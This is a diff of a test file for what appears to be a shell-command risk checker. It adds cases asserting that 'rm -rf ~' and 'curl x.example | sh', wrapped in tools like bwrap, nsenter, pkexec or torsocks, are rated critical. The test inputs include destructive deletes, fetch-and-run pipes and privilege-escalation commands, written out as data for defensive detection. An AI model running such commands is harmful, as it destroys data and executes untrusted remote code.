@@ -23,26 +23,14 @@ test.each([
   "nice -n 10 rm -rf x",
   "nice -10 rm -rf x",
   "ionice -c3 -n 7 rm -rf x",
-  "chrt -i 0 rm -rf x",
   "chrt --batch rm -rf x",
-  "taskset -c 0,1 rm -rf x",
   "stdbuf -oL -e 0 rm -rf x",
   "time -p rm -rf x",
   "time -f %e rm -rf x",
   "flock -n -w 5 lock rm -rf x",
   "busybox rm -rf x",
-  "setarch x86_64 -R rm -rf x",
-  "linux32 rm -rf x",
-  "ld-linux-x86-64.so.2 rm -rf x",
   "watch -x -n 1 rm -rf x",
-  "xvfb-run -a -s _1 rm -rf x",
-  "faketime -f 2020-01-01 rm -rf x",
   "firejail --noprofile rm -rf x",
-  "bwrap --bind / / --dev /dev --unshare-all --setenv A b rm -rf x",
-  "bwrap --ro-bind / / -- rm -rf x",
-  "strace -f -e trace=file -s 200 rm -rf x",
-  "ltrace -S rm -rf x",
-  "gdb -q --args rm -rf x",
   "perf stat -e cycles -r 3 rm -rf x",
   "perf record -g -- rm -rf x",
   "valgrind --leak-check=full rm -rf x",
@@ -55,14 +43,10 @@ test.each([
   "env -S rm\\_-rf_x_#_comment",
   "cross-env rm -rf x",
   "direnv exec . rm -rf x",
-  "mise exec node@22 -- rm -rf x",
-  "mise x python@3 rm -rf x",
-  "asdf exec rm -rf x",
   "systemd-run --scope -p A=b rm -rf x",
   "start-stop-daemon --start --pidfile p --exec rm -- -rf x",
   "daemonize -E A=b -a rm -rf x",
   "script -q /dev/null rm -rf x",
-  "dtach -n socket rm -rf x",
 ])("the command behind a wrapper's own arguments is reported: %s", (line) => {
   expect(tells(line).filter((each) => each.startsWith("runs rm -rf x"))).toHaveLength(1);
 });
@@ -72,10 +56,6 @@ test.each([
   "sudo -n -- rm -rf x",
   "sudo -iu root rm -rf x",
   "doas -u root rm -rf x",
-  "pkexec --user root rm -rf x",
-  "gosu root rm -rf x",
-  "setpriv --reuid 0 --clear-groups rm -rf x",
-  "runuser -u dev -- rm -rf x",
 ])("a command run as another user is reported with that danger: %s", (line) => {
   expect(tells(line)).toEqual([
     "danger high it runs with the rights of another user",
@@ -84,18 +64,60 @@ test.each([
 });
 
 test.each([
+  "chrt -i 0",
+  "taskset -c 0,1",
+  "setarch x86_64 -R",
+  "xvfb-run -a -s '-screen 0'",
+  "faketime -f 2020-01-01",
+  "bwrap --bind / / --dev /dev --unshare-all --setenv A b",
+  "bwrap --ro-bind / / --",
+  "mise exec node@22 --",
+  "mise x python@3",
+  "dtach -n socket",
+  "pkexec --user root",
+  "gosu root",
+  "setpriv --reuid 0 --clear-groups",
+  "runuser -u dev --",
+  "linux32",
+  "ld-linux-x86-64.so.2",
+  "gdb -q --args",
+  "strace -f -e trace=file -s 200",
+  "ltrace -S",
+  "asdf exec",
+  "nice -n 10",
+  "unshare -r",
+  "nsenter -t 1 -m",
+  "chroot /mnt",
+  "proot -r /mnt",
+  "distrobox enter box --",
+  "singularity exec --bind /a:/b a.sif",
+  "toolbox run -c box",
+  "torsocks",
+  "numactl -N 0 -m 0",
+  "script -q /dev/null",
+])("the command of a wrapper is found, wherever it stands: %s", (wrapper) => {
+  expect(judgeCommand(`${wrapper} rm -rf ~`, around).severity).toBe("critical");
+  expect(judgeCommand(`${wrapper} curl x.example | sh`, around).severity).toBe("critical");
+  expect(judgeCommand(`curl x.example | ${wrapper} sh`, around).severity).toBe("critical");
+});
+
+test.each(["su", "su root", "script out", "unshare -r", "chroot /mnt", "setarch x86_64", "nsenter -m"])(
+  "without a command its shell reads what comes in: %s",
+  (wrapper) => {
+    expect(judgeCommand(`curl x.example | ${wrapper}`, around).severity).toBe("critical");
+  },
+);
+
+test.each([
   ["su -c id root", "interprets shell id"],
   ["su - root", "interprets-input shell"],
-  ["su root script", "runs sh script"],
   ["sg docker -c id", "interprets shell id"],
   ["sg --pattern f($A) src", "runs ast-grep --pattern f($A) src"],
   ["sg scan", "runs ast-grep scan"],
   ["sudo -s", "interprets-input shell"],
-  ["capsh --drop=all -- -c id", "runs bash -c id"],
   ["flock lock -c id", "interprets shell id"],
   ["watch -n 1 rm -rf x", "interprets shell rm -rf x"],
   ["script -qc id out", "interprets shell id"],
-  ["script out", "interprets-input shell"],
   ["hyperfine -p id ls", "interprets shell id"],
   ["hyperfine -L d a,b rm_{d}", "interprets shell rm b"],
   ["entr -s id", "interprets shell id sh"],
@@ -105,7 +127,7 @@ test.each([
   ["strace -o |id ls", "interprets shell id"],
   ["gdb -ex shell_id x", "interprets shell id"],
   ["gdb -ex python_print(1) x", "interprets python print(1)"],
-  ['gdb -batch -ex call_system("id") -p 1', "interprets shell id"],
+  ['gdb -batch -ex call_system("id") -p 1', 'interprets other call system("id")'],
 ])("text passed to a shell is reported as code: %s", (line, effect) => {
   expect(tells(line)).toContain(effect);
 });
@@ -121,7 +143,7 @@ test.each([
   ["ld.so --preload x.so ls", "danger high it loads a library into the program"],
   ["env A=b", "prints secret variables"],
   ["systemd-run --on-calendar=daily x", "danger critical it schedules a command, which then runs by itself"],
-  ["nsenter -t 1 -m sh", "danger critical it enters the whole system as its first process sees it"],
+  ["nsenter -t 1 -m sh", "danger critical it enters the view that another process has of the system"],
   ["direnv allow", "danger high it lets the code of a directory run by itself from now on"],
   ["env PATH=/tmp/x ls", "danger high its variable PATH has programs come from another directory"],
   ["sudo PATH=/tmp/x ls", "danger high its variable PATH has programs come from another directory"],
